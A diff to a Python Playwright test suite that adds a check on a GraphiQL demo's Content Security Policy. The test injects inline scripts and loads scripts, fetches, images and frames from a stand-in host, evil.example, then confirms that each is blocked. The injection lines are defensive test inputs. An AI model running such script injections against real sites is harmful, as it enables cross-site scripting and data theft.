@@ -1,5 +1,6 @@
 """GraphiQL in a real browser: examples run as they stand, and a subscription hears what a mutation does."""
 
+import asyncio
 import json
 from collections.abc import AsyncIterator
 from contextlib import suppress
@@ -14,6 +15,9 @@ from commerce_graph.kernel.graphiql import Example
 from tests.browser.conftest import Demo
 
 TIMEOUT_MS = 30_000
+VIOLATIONS = """document.addEventListener('securitypolicyviolation',
+  (event) => window.violated(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`))"""
+"""Tells the test what the page's policy has forbidden."""
 
 
 @pytest.fixture
@@ -27,6 +31,8 @@ async def page(browser: Browser, demo: Demo) -> AsyncIterator[Page]:
     opened.on("pageerror", lambda fault: complaints.append(str(fault)))
     opened.on("requestfailed", lambda request: complaints.append(request.url))
     opened.on("request", lambda request: complaints.append(request.url) if foreign(request.url, demo) else None)
+    await opened.expose_function("violated", lambda told: complaints.append(told))
+    await opened.add_init_script(VIOLATIONS)
     await opened.goto(demo.address)
     await opened.wait_for_selector(".graphiql-execute-button")
     yield opened
@@ -86,6 +92,33 @@ async def test_docs_show_the_schema(page: Page) -> None:
 async def test_dialog_is_styled_under_the_policy(page: Page) -> None:
     await page.get_by_role("button", name="Open settings dialog").click()
     await expect(page.get_by_role("dialog")).to_be_visible()
+
+
+async def test_policy_forbids_what_is_not_ours(browser: Browser, demo: Demo) -> None:
+    context = await browser.new_context()
+    opened = await context.new_page()
+    forbidden: asyncio.Queue[str] = asyncio.Queue()
+    await opened.expose_function("violated", lambda told: forbidden.put_nowait(told))
+    await opened.add_init_script(VIOLATIONS)
+    await opened.goto(demo.address)
+    for script, directive in (
+        ("document.head.append(Object.assign(document.createElement('script'), { text: 'window.stolen = 1' }))",
+         "script-src-elem inline"),
+        ("document.body.setAttribute('onclick', 'window.stolen = 1'); document.body.click()", "script-src-attr inline"),
+        ("document.head.append(Object.assign(document.createElement('script'), { src: 'https://evil.example/a.js' }))",
+         "script-src-elem https://evil.example/a.js"),
+        ("fetch('https://evil.example/').catch(() => 0)", "connect-src https://evil.example/"),
+        ("document.body.append(Object.assign(document.createElement('img'), { src: 'https://evil.example/' }))",
+         "img-src https://evil.example/"),
+        ("document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' }))",
+         "frame-src https://evil.example"),
+    ):  # fmt: skip
+        await opened.evaluate(script)
+        async with asyncio.timeout(TIMEOUT_MS / 1_000):
+            while not (await forbidden.get()).startswith(directive):
+                pass
+    assert await opened.evaluate("window.stolen") is None
+    await context.close()
 
 
 async def test_subscription_hears_of_a_change_at_once(page: Page, demo: Demo) -> None:
